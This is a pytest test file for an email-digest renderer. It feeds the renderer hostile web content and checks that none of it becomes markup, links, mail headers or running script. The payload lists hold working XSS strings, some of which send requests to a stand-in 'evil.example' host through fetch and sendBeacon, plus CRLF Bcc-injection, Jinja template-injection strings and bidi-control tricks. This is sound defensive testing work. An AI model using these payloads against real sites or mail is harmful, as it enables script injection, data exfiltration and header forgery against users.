"""Pages are hostile: nothing they say gets out of its place, in either part or any header."""

import re
from dataclasses import replace
from email import message_from_bytes
from email.policy import SMTP
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2.exceptions import SecurityError

from monitor import digest
from monitor.links import Links
from monitor.messages import MOST_HTML, Renderer, Templates, read_marks, visible
from monitor.messages.layout import marked
from monitor.messages.safe import header, link, remarked, short, unmarked
from monitor.messages.view import Marked
from monitor.model import (
    Citation,
    DigestKind,
    Event,
    EventKind,
    Finding,
    FindingKind,
    Mark,
    Part,
    PartKind,
    Quote,
    QuoteState,
    Reason,
    Severity,
    Span,
)

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=https://evil.example/></iframe>',
    "' onmouseover='alert(1)",
    "</td></table><form action=https://evil.example/><input name=q></form>",
    "<!--[if mso]><a href=https://evil.example/>x</a><![endif]-->",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{count} {names} {__class__}",
    "&lt;script&gt;&#60;b&#62;",
    "innocent-] {+forged+} [-forged",
    "+} [-gone-] {+",
    "\r\nBcc: victim@example.org",
    "\nPage      https://evil.example/",
    "a\u2028b\u2029c\x00d\x1b[31me\x85f",
    "\u202eevil\u202c \u2066hidden\u2069",
    "zero\u200bwidth\u200djoined\ufeff",
    "javascript:alert(1)",
)
RUNNING = (
    "<script>canary(1)</script>",
    "</script><script>canary(1)</script>",
    "</title><script>canary(1)</script>",
    "</style><script>canary(1)</script>",
    "--><script>canary(1)</script><!--",
    "]]><script>canary(1)</script><![CDATA[",
    '"><script src=https://evil.example/x.js></script>',
    "'\"><img src=https://evil.example/p.png onerror=canary(1) onload=canary(1)>",
    "<svg onload=canary(1)>",
    "<svg><script>canary&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=canary(1) attributeName=x dur=1s></svg>",
    "<math><mtext></table></math><mglyph><style><img src=x onerror=canary(1)></style>",
    '<noscript><p title="</noscript><img src=x onerror=canary(1)>">',
    "<details open ontoggle=canary(1)>x</details>",
    "<input autofocus onfocus=canary(1)>",
    '" autofocus tabindex=1 onfocus=canary(1) x="',
    "' onmouseover=canary(1) onclick=canary(1) x='",
    "<body onload=canary(1) onpageshow=canary(1)>",
    "<marquee onstart=canary(1)>x</marquee>",
    "<video><source onerror=canary(1) src=x></video><audio src=https://evil.example/a onerror=canary(1)>",
    "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>",
    "<iframe src=javascript:parent.canary(1)></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<a href=javascript:canary(1) id=x>x</a>",
    "<link rel=stylesheet href=https://evil.example/s.css><style>@import 'https://evil.example/i.css';</style>",
    "<div style='background:url(https://evil.example/b)'>x</div>",
    "} body { background-image: url(https://evil.example/c) } .x {",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/r'>",
    "<form action=https://evil.example/f><button autofocus onfocus=canary(1)>x</button></form>",
    "<template><script>canary(1)</script></template>",
    "<x onclick=canary(1) onmouseover=canary(1)>x</x>",
    "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e",
    "&lt;script&gt;canary(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;canary(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ecanary(1)%3C/script%3E",
    "jav\tascript:canary(1)",
    "\x01javascript:canary(1)",
    "data:text/html,<script>parent.canary(1)</script>",
    "<script>alert(1)</script><script>confirm(1)</script><script>prompt(1)</script>",
    "<script>fetch('https://evil.example/f');navigator.sendBeacon('https://evil.example/s')</script>",
    "<script>window.open('https://evil.example/w');location='https://evil.example/l'</script>",
    "<script>throw new Error('x')</script>",
)
"""Would each, unescaped, run a script, ask something, or fetch: a browser looks on."""
ALLOWED = {
    "html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td", "p", "div", "span", "h1", "h2",
    "h3", "ins", "del", "a", "code", "br", "strong",
}  # fmt: skip


class Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.seen, self.attributes, self.links, self.texts = set(), set(), [], []

    def handle_starttag(self, tag, attrs):
        self.seen.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.seen.add(f"<!--{data}-->")


def infested(week, payload, kind=DigestKind.DIGEST):
    """A digest with the payload in every field a page, a site or a list can fill."""
    source = week.source(
        "evil", f"name {payload}", "laws", f"publisher {payload}", f"javascript:{payload}", (170,),
        languages=(payload, "fr"), topics=(payload,),
    )  # fmt: skip
    part = Part(
        PartKind.CHANGED, f"old {payload}", f"new {payload}",
        (Span(Mark.SAME, f"same {payload}"), Span(Mark.REMOVED, f"old {payload}"), Span(Mark.ADDED, f"new {payload}")),
        headings=(f"head {payload}",), page=3,
    )  # fmt: skip
    item = Part(PartKind.ITEM_NEW, "", f"item {payload}", (Span(Mark.ADDED, f"item {payload}"),),
                url=f"javascript:{payload}", date=f"date {payload}")  # fmt: skip
    change = week.change(9, "evil", Severity.CRITICAL, [Reason("number", {"old": payload, "new": payload}),
                                                        Reason(payload, {payload: payload})],
                         [part, item], topics=(payload,))  # fmt: skip
    quote = Quote("evil", 170, f"quote {payload}")
    events = tuple(
        Event("evil", kind, week.now, {"old": payload, "new": f"https://x.example/{payload}", "line": payload,
                                       "reason": payload, "reason_x": payload, "since": payload, "looks": payload,
                                       "was": payload, "likeness": payload, "url": payload}, quote, id=n)
        for n, kind in enumerate(EventKind)
    )  # fmt: skip
    cited = Citation(170, "evil", payload, payload, payload, payload, payload, claims=(f"claim {payload}",))
    finding = Finding("evil", FindingKind.QUOTES_MISSING, week.now, f"https://x.example/{payload}",
                      (week.touch(quote, QuoteState.CHANGED, 0, f"near {payload}"),), surprising=True,
                      reason=Reason(payload, {payload: payload}), alternative=2, alternative_url=payload)  # fmt: skip
    material = week.material(
        sources=(source,), citations=(cited,), changes=(change,), events=events, findings=(finding,)
    )
    return digest.compose(week.order(kind), material)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_a_link_or_a_header(payload, week, renderer):
    mail = message_from_bytes(renderer.render(infested(week, payload)).mime, policy=SMTP)
    plain, page = (part.get_content() for part in mail.iter_parts())
    seen = Tags()
    seen.feed(page)
    assert seen.seen <= ALLOWED
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert all(target.startswith(("https://", "http://")) for target in seen.links)
    assert not any("evil.example" in target for target in seen.links if "x.example" not in target)
    assert mail.get_all("To") == ["reader@example.org"]
    assert mail["Bcc"] is None
    assert "\x1b" not in plain + page
    assert "\x00" not in plain + page


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_can_neither_open_nor_close_a_word_mark(payload, week, renderer):
    plain = renderer.parts(infested(week, payload)).text
    removed, added = read_marks(plain)
    clean = " ".join(visible(payload).split())
    assert removed == (f"old {clean}",)
    assert added == (f"new {clean}", f"item {clean}")


_BRACKETS = st.text(alphabet="[]{}+-\\ \n\u2028\u00adab·>:", max_size=24)


@settings(max_examples=60)
@given(
    page=_BRACKETS
    | st.lists(st.sampled_from(["[-", "-]", "{+", "+}", "\\", "-\\]", "\n   ", "x"]), max_size=8).map("".join)
)
@pytest.mark.slow
def test_whatever_a_page_says_its_marks_are_read_back_and_no_others(page, week, renderer):
    removed, added = read_marks(renderer.parts(infested(week, page)).text)
    clean = " ".join(visible(page).split())
    assert removed == (f"old {clean}".strip(),)
    assert added == (f"new {clean}".strip(), f"item {clean}".strip())


def test_template_syntax_and_place_holders_are_printed_as_they_are(week, renderer):
    made = renderer.parts(infested(week, "{{7*7}} {count}"))
    assert "{{7*7}} {count}" in made.text
    assert "{{7*7}} {count}" in made.html
    assert "49" not in made.text.replace("2049", "")


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\ufeff", "\u061c", "\U000e0041", "\u3164", "\x07"])
def test_what_hides_is_shown_in_bodies_and_gone_from_headers(char, week, renderer):
    made = renderer.parts(infested(week, f"a{char}b"))
    shown = f"a⟨U+{ord(char):04X}⟩b"
    assert shown in made.text
    assert shown in made.html
    assert char not in made.text + made.html + made.subject
    assert "publisher ab" in made.subject


def test_a_line_of_the_page_cannot_forge_a_line_of_the_mail(week, renderer):
    plain = renderer.parts(infested(week, "\nPage      https://evil.example/")).text
    assert not [line for line in plain.splitlines() if line.strip().startswith("Page      https://evil")]


def test_a_javascript_address_is_shown_but_no_link(week, renderer):
    made = renderer.parts(infested(week, "alert(1)"))
    assert "javascript:alert(1)" in made.html
    assert 'href="javascript' not in made.html


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://", "http://a b/", "https://a/\u202ex",
     "//x/y", "JaVaScript:alert(1)", "vbscript:x", "https://[half"],
)  # fmt: skip
def test_only_web_addresses_are_links(url):
    assert link(url) == ""


def test_a_web_address_is_a_link():
    assert link("https://example.org/a?b=c&d=%20") == "https://example.org/a?b=c&d=%20"


@given(st.text(max_size=200))
def test_what_is_visible_holds_no_control_bidi_or_line_break(text):
    made = visible(text)
    assert visible(made) == made
    assert "\n" not in made
    assert not set(made) & set(
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\ufeff\x00\x7f\x9b"
    )


@given(st.text(max_size=300))
def test_a_header_is_one_short_printable_line(text):
    made = header(text, 120)
    assert len(made) <= 120
    assert len(made.splitlines()) <= 1
    assert not set(made) & set("\r\n\x00\u2028\u202e")


@given(st.text(alphabet="[]{}+-\\ab ", max_size=60))
def test_taking_the_sting_out_of_marks_can_be_undone(text):
    assert remarked(unmarked(text)) == text
    for mark in ("[-", "-]", "{+", "+}"):
        assert mark not in unmarked(text)


_WORDS = st.text(alphabet="[]{}+-\\ab<é\u202e", min_size=1, max_size=8)


@given(
    st.lists(
        st.tuples(st.sampled_from(["same", "removed", "added"]), st.lists(_WORDS, min_size=1, max_size=30)), max_size=8
    )
)
def test_marks_are_read_back_from_the_text_part_as_they_were_given(runs):
    marks = [Marked(mark, " ".join(words)) for mark, words in runs]
    removed, added = read_marks(marked(marks, "[…]"))
    assert list(removed) == [visible(m.text) for m in marks if m.mark == "removed"]
    assert list(added) == [visible(m.text) for m in marks if m.mark == "added"]


@given(st.text(max_size=80), st.integers(2, 40))
def test_shortening_keeps_to_its_length(text, most):
    assert len(short(text, most)) <= max(most, 1)
    assert short(text, 100) == text


def test_a_home_template_that_reaches_for_the_machinery_is_refused(week, messages, tmp_path):
    folder = tmp_path / "alerts" / "templates"
    folder.mkdir(parents=True)
    (folder / "digest.text.j2").write_text("{{ mail.__class__.__mro__[1].__subclasses__() }}")
    with pytest.raises(SecurityError):
        Renderer(week.sender, Templates(tmp_path)).parts(messages["digest"])


@pytest.mark.parametrize(
    "body", ["{{ mail.nothing }}", "{% for %}", "{{ 1/0 }}", "{{ mail.__class__.__mro__ }}", "{{ mail.lang.x() }}"]
)
def test_a_faulty_home_template_does_not_stop_the_mail(body, week, messages, renderer, tmp_path, caplog):
    folder = tmp_path / "alerts" / "templates"
    folder.mkdir(parents=True)
    (folder / "digest.text.j2").write_text(body)
    made = Renderer(week.sender, Templates(tmp_path)).render(messages["digest"])
    assert made.mime == renderer.render(messages["digest"]).mime
    assert "using the program's own" in caplog.text


def test_a_faulty_home_catalogue_does_not_stop_the_mail(week, messages, renderer, tmp_path):
    folder = tmp_path / "alerts" / "templates" / "catalogue"
    folder.mkdir(parents=True)
    (folder / "en.toml").write_text("[product\nname =")
    made = Renderer(week.sender, Templates(tmp_path)).render(messages["digest"])
    assert made.mime == renderer.render(messages["digest"]).mime


def test_a_home_may_replace_a_single_template(week, messages, tmp_path):
    folder = tmp_path / "alerts" / "templates"
    folder.mkdir(parents=True)
    (folder / "test.subject.j2").write_text("Ours: {{ mail.subject }}")
    made = Renderer(week.sender, Templates(tmp_path)).render(messages["test"])
    assert made.subject == "Ours: Test message – Tue 24 Nov 2026"


def _many(week, count, words):
    text = " ".join(words)
    changes = tuple(
        week.change(
            1000 + n, "coc-airport", Severity(2 + n % 3), [Reason("words_changed")],
            [Part(PartKind.ADDED, "", text, (Span(Mark.ADDED, text),), headings=(f"Part {n}",))],
        )
        for n in range(count)
    )  # fmt: skip
    events = tuple(replace(week.events[n % 4], id=5000 + n) for n in range(count))
    return digest.compose(week.order(), week.material(changes=changes, events=events))


@pytest.mark.worst
@pytest.mark.parametrize(
    ("count", "words"), [(3, ["law"] * 30_000), (30, ["<b>&\u202e"] * 500), (250, ["x"] * 50), (1, ["y" * 400_000])]
)
def test_the_html_is_never_cut_off_by_a_reader_of_mail(count, words, week, renderer):
    made = _many(week, count, words)
    parts = renderer.parts(made)
    assert len(parts.html.encode()) <= MOST_HTML < 100_000
    assert parts.fits
    assert len(renderer.render(made).mime) < 600_000


@pytest.mark.slow
def test_when_room_is_short_the_most_severe_are_shown_in_full_and_the_rest_by_line(week, renderer):
    made = _many(week, 120, ["law"] * 300)
    parts = renderer.parts(made)
    shown = {n for n in range(120) if f"   Compare   monitor show {1000 + n}\n" in parts.text}
    least = min(2 + n % 3 for n in shown)
    assert shown
    assert all(2 + n % 3 <= least for n in set(range(120)) - shown)
    assert "Also changed, shown in short because this message would be too long:" in parts.text
    assert "more events are not listed here for length" in parts.text


@pytest.mark.worst
@pytest.mark.parametrize("language", ["en", "fr"])
def test_of_five_hundred_changes_each_is_shown_or_counted_and_the_page_is_not_cut(language, week, renderer):
    made = _many(week, 500, ["a", "new", "law"])
    order = replace(made.order, subscriber=replace(made.order.subscriber, language=language))
    parts = renderer.parts(replace(made, order=order))
    assert len(parts.html.encode()) < 100_000
    named = [set(re.findall(r"monitor show (\d+)", part)) for part in (parts.text, parts.html)]
    assert named[0] == named[1]
    by_severity = [{str(1000 + n) for n in range(500) if 2 + n % 3 == level} for level in (4, 3, 2)]
    critical, substantive, minor = (len(named[0] & numbers) for numbers in by_severity)
    assert critical > 20
    assert critical == len(by_severity[0]) or not substantive
    assert substantive == len(by_severity[1]) or not minor
    words = Templates().words(language)
    left = words("change.left", count=500 - len(named[0]), command="monitor changes --since 2026-11-23")
    assert left in " ".join(parts.text.split())


def test_a_long_change_is_cut_in_the_page_and_says_so_and_stands_whole_in_the_text(week, renderer):
    parts = renderer.parts(_many(week, 1, ["law"] * 30_000))
    says = "Shortened for length; the whole comparison: monitor show 1000"
    assert "[…]" in parts.html
    assert says in " ".join(re.sub("<[^>]*>", " ", parts.html).replace("\u00a0", " ").split())
    assert "[…]" not in parts.text
    assert parts.text.count("law") >= 30_000


def test_a_change_too_long_for_any_mail_is_cut_in_both_parts_and_says_so(week, renderer):
    parts = renderer.parts(_many(week, 1, ["law"] * 120_000))
    assert "Shortened for length; the whole comparison: monitor show 1000" in " ".join(parts.text.split())
    assert "[…]" in parts.text
    assert "[…]" in parts.html


def test_a_change_in_very_many_places_says_how_many_more(week, renderer):
    places = [week.changed(f"a [-{n}-] {{+{n + 1}+}} b") for n in range(600)]
    change = week.change(7, "coc-airport", Severity.MINOR, [], places)
    parts = renderer.parts(digest.compose(week.order(), week.material(changes=(change,), events=())))
    left = int(re.search(r"(\d+) more places changed", parts.html)[1])
    assert 0 < left < 541
    assert parts.text.count("[-") >= 600


@pytest.mark.slow
def test_a_first_report_of_very_many_sources_still_fits(week, renderer):
    sources = tuple(replace(week.sources[0], id=f"s{n}", name=f"Source {n} " + "x" * 100) for n in range(3000))
    order = week.order(DigestKind.FIRST_REPORT, "first")
    parts = renderer.parts(digest.compose(order, week.material(sources=sources)))
    assert parts.fits
    assert "more sources are not listed here for length: monitor status" in " ".join(parts.text.split())


ADDRESS = "http://127.0.0.1/mail.html"
WATCH = "window.ran = []; window.canary = what => ran.push(String(what));"
POKE = """() => {
    for (const element of document.querySelectorAll('*'))
        for (const kind of ['mouseover', 'mouseenter', 'focus', 'pointerdown', 'mousedown', 'mouseup', 'toggle'])
            element.dispatchEvent(new Event(kind, {bubbles: true}));
    return [window.ran, [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())
        .filter(name => name.startsWith('on')), document.scripts.length, document.title];
}"""


@pytest.fixture(scope="module")
def show():
    """A page of mail as a browser opens it: what ran, what it asked for, and its title."""

    def visit(watched, html):
        for seen in (watched.requests, watched.dialogs, watched.errors, watched.opened):
            seen.clear()
        watched.page.unroute_all()
        watched.page.route(ADDRESS, lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"))
        watched.page.goto(ADDRESS)
        ran, handlers, scripts, title = watched.page.evaluate(POKE)
        harm = {
            "ran": ran, "handlers": handlers, "scripts": scripts, "dialogs": list(watched.dialogs),
            "requests": [r for r in watched.requests if r != ADDRESS], "errors": list(watched.errors),
            "opened": list(watched.opened), "left": watched.page.url != ADDRESS,
        }  # fmt: skip
        return title, {name: what for name, what in harm.items() if what}

    return visit


@pytest.fixture
def opened(open_page):
    watched = open_page()
    watched.page.add_init_script(WATCH)
    return watched


@pytest.mark.parametrize(
    ("kind", "links"),
    [
        (DigestKind.DIGEST, None),
        (DigestKind.DIGEST, Links("https://watch.example.org", "key")),
        (DigestKind.URGENT, None),
        (DigestKind.FIRST_REPORT, None),
    ],
    ids=["digest", "digest with pages", "urgent", "first report"],
)
def test_in_a_browser_nothing_runs_asks_or_is_fetched(kind, links, week, opened, show):
    renderer = Renderer(replace(week.sender, links=links))
    own = tuple(f"https://watch.example.org/{payload}" for payload in RUNNING[:8]) if links else ()
    for payload in (*PAYLOADS, *RUNNING, *own):
        made = infested(week, payload, kind)
        parts = renderer.parts(made)
        title, harm = show(opened, parts.html)
        assert harm == {}, payload
        assert title == " ".join(parts.subject.split()), payload
        assert visible(payload).strip()[:12] in " ".join(opened.page.inner_text("body").split()), payload


@pytest.mark.parametrize(
    ("html", "harm"),
    [
        ("<script>canary(1)</script>", {"ran", "scripts"}),
        ("<p onmouseover=canary(1)>x</p>", {"ran", "handlers"}),
        ("<img src=https://evil.example/p.png>", {"requests", "errors"}),
        ("<style>@import 'https://evil.example/i.css';</style>", {"requests", "errors"}),
        ("<script>alert(1)</script>", {"dialogs", "scripts"}),
        ("<script>throw new Error('x')</script>", {"errors", "scripts"}),
    ],
)
def test_the_browser_would_notice(html, harm, opened, show):
    assert set(show(opened, html)[1]) == harm
